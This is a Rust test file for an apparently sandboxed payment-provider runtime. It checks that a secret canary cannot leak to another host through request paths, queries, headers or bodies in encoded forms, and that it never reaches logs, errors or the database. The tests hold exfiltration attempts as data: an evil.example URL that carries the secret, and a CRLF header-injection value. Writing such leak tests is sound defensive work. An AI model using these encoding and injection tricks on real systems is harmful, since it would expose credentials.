//! Attempts to carry a secret out: to another granted host, in every part of a request; into a log, an error, the books, before
//! a payer. The canary turns up where the operator said and nowhere else.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use tillbox::Host;
use tillbox::runtime::{Culprit, ExchangeFault};
use tillbox::service::{NewCollection, NewSession};

use crate::scene::{
    CANARY, DOORS, GRANTED, Manner, Names, Peer, WASI, call, contained, euro, granted, ok, one, runtime,
};

fn hexadecimal(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// The canary as a program may write it without meaning harm.
fn spellings() -> Vec<String> {
    let with = |text: &str| format!("{text}{CANARY}");
    vec![
        CANARY.to_owned(),
        STANDARD.encode(CANARY),
        STANDARD.encode(with("a")),
        STANDARD.encode(with("ab")),
        STANDARD.encode(with(":")),
        hexadecimal(CANARY),
        hexadecimal(CANARY).to_uppercase(),
    ]
}

fn nowhere(what: &str, text: &str) {
    for spelling in spellings().iter().chain([&percent(CANARY)]) {
        let core = &spelling[spelling.len().min(4)..spelling.len() - 4];
        assert!(!text.contains(core), "{what}: `{core}` in {text}");
    }
}

#[tokio::test]
async fn a_secret_does_not_leave_for_another_host_in_any_part_of_a_request() {
    let (home, other) = (Peer::start(ok("home")).await, Peer::start(ok("other")).await);
    // The other one is granted under another name, so that a secret can be bound to the first alone.
    let both = runtime(&Names::leading("other.test", &[&["127.0.0.1"]]));
    let line = json!({ "host": "other.test", "scheme": "http", "port": other.port(), "addresses": ["127.0.0.1/32"] });
    let bound = json!([{ "name": "api_key", "hosts": ["127.0.0.1"], "reveal": true }]);
    for (door, component) in DOORS {
        let provider = granted(&both, component, vec![home.grant(), line.clone()], bound.clone()).await;
        let url = |tail: &str| format!("http://other.test:{}/{tail}", other.port());
        let post = |tail: &str, key: &str, header: &str, body: &str| json!({ "method": "POST", "url": url(tail), "key": key, "headers": [["x-a", header]], "body": body });
        let mut calls = vec![json!({ "url": url(""), "secrets": [["authorization", "", "api_key"]] })];
        for spelled in spellings() {
            let spelled = spelled.trim_end_matches('=');
            calls.push(post(&format!("v1/{}", spelled.replace(['/', '+'], "_")), "k", "v", "b"));
            calls.push(post(&format!("v1?q={spelled}"), "k", "v", "b"));
            calls.push(post("v1", "k", spelled, "b"));
            calls.push(post("v1", "k", "v", &format!("amount=1&note={spelled}")));
            calls.push(post("v1", "k", "v", &json!({ "note": spelled }).to_string()));
        }
        calls.push(post(&format!("v1?q={}", percent(CANARY)), "k", "v", "b"));
        for call in &calls {
            let (told, report) = one(provider.as_ref(), call.clone()).await;
            contained(&format!("{door} {call}"), &told, &report, "denied", ExchangeFault::Secret);
            assert_eq!(ExchangeFault::Secret.culprit(), Culprit::Guest);
            nowhere(door, &format!("{report:?}"));
        }
        assert_eq!(other.connections(), 0, "{door}");
        // Where it is bound, one that may be read may be said.
        let call = json!({ "method": "POST", "url": home.url("/"), "key": "k", "body": CANARY });
        assert_eq!(one(provider.as_ref(), call).await.0["body"], "home", "{door}");
    }
}

/// What a guest that was given the plain value puts into everything a person or a database may read.
fn loud() -> Value {
    json!({ "reveal": "api_key", "log": "key={secret} again {secret}", "tell": true })
}

#[tokio::test]
async fn what_a_guest_says_of_a_secret_reaches_no_reader() {
    let peer = Peer::start(ok("ok")).await;
    let runtime = runtime(&Names::leading(GRANTED, &[&["127.0.0.1"]]));
    for (door, component) in DOORS {
        let secrets = json!([{ "name": "api_key", "reveal": true }]);
        let provider = granted(&runtime, component, vec![peer.grant()], secrets).await;
        let with = |more: Value| {
            let mut order = loud();
            order.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
            order
        };
        let url = format!("https://evil.example/{CANARY}?k={CANARY}");
        for (what, order_of) in [
            ("an answer", loud()),
            ("an error", with(json!({ "answer": { "error": "the key is" } }))),
            ("a trap", with(json!({ "then": "trap" }))),
            ("a reference", with(json!({ "answer": { "reference": "ref_{secret}" } }))),
            ("a request that is turned away", with(json!({ "calls": [{ "url": url }] }))),
            ("a request that cannot be read", with(json!({ "calls": [{ "url": CANARY }] }))),
        ] {
            let call = call(provider.as_ref(), &order_of, 5_000).await;
            let said = format!("{:?} {:?}", call.answer, call.report);
            nowhere(&format!("{door} {what}"), &said);
            assert!(said.contains("[redacted]"), "{door} {what}: {said}");
            assert!(!call.report.log.is_empty(), "{door} {what}");
        }
    }
}

/// A value that changed in its file is the next call's, and within a call it stays.
#[tokio::test]
async fn a_rotated_secret_needs_no_restart() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("key");
    let peer = Peer::start(ok("ok")).await;
    let runtime = runtime(&Names::leading(GRANTED, &[&["127.0.0.1"]]));
    for (door, component) in DOORS {
        std::fs::write(&file, "sk_first_4711\n").unwrap();
        let secrets = json!([{ "name": "api_key", "file": file, "hosts": ["127.0.0.1"], "headers": ["x-key"] }]);
        let provider = granted(&runtime, component, vec![peer.grant()], secrets).await;
        let call = json!({ "url": peer.url("/"), "secrets": [["x-key", "", "api_key"]] });
        for value in ["sk_first_4711", "sk_second_4711"] {
            std::fs::write(&file, value).unwrap();
            assert_eq!(one(provider.as_ref(), call.clone()).await.0["status"], 200, "{door}");
            let heard = peer.heard().pop().unwrap();
            assert!(heard.contains(&format!("x-key: {value}\r\n")), "{door}: {heard}");
        }
        // One that is gone, and one that would break a header, are named and go nowhere.
        std::fs::remove_file(&file).unwrap();
        let (told, report) = one(provider.as_ref(), call.clone()).await;
        if *door == WASI {
            contained(door, &told, &report, "invalid", ExchangeFault::Invalid);
        } else {
            assert!(told["secret"].as_str().is_some_and(|why| why.contains("missing")), "{door}: {told}");
        }
        std::fs::write(&file, "sk\r\nhost: evil.example").unwrap();
        let (told, report) = one(provider.as_ref(), call.clone()).await;
        contained(door, &told, &report, "invalid", ExchangeFault::Invalid);
    }
}

/// The books of a host whose provider does all it can to put a secret there hold it in no spelling.
#[tokio::test]
async fn no_secret_is_in_the_books() {
    for (door, component) in DOORS {
        let directory = tempfile::tempdir().unwrap();
        let peer = Peer::start(Manner::Echoes).await;
        let runtime = runtime(&Names::leading(GRANTED, &[&["127.0.0.1"]]));
        let secrets = json!([{ "name": "api_key", "reveal": true }]);
        let provider = granted(&runtime, component, vec![peer.grant()], secrets).await;
        let host = Host::builder().database(directory.path().join("books.db")).without_background_work();
        let host = host.provider("default", provider).encryption_key([7; 32]).build().await.unwrap();
        let mut order = loud();
        let call = json!({
            "method": "POST", "url": peer.url("/v1/{secret}?k={secret}"), "key": "{secret}", "body": "k={secret}",
            "secrets": [["authorization", "Bearer ", "api_key"]],
        });
        order["calls"] = json!([call]);
        order["answer"] = json!({ "reference": "ref_{secret}" });
        let provider = host.providers()[0].id.clone();
        let collection = host.create_collection(NewCollection::new(euro(1_050))).await.unwrap().id;
        let new = NewSession::new(provider).data(order.to_string());
        host.create_session(&collection, new).await.unwrap();
        assert!(peer.heard().iter().any(|heard| heard.contains(CANARY)), "{door}: what may be read may be said");
        drop(host);
        for file in std::fs::read_dir(directory.path()).unwrap() {
            let bytes = std::fs::read(file.unwrap().path()).unwrap();
            nowhere(door, &String::from_utf8_lossy(&bytes));
        }
    }
}
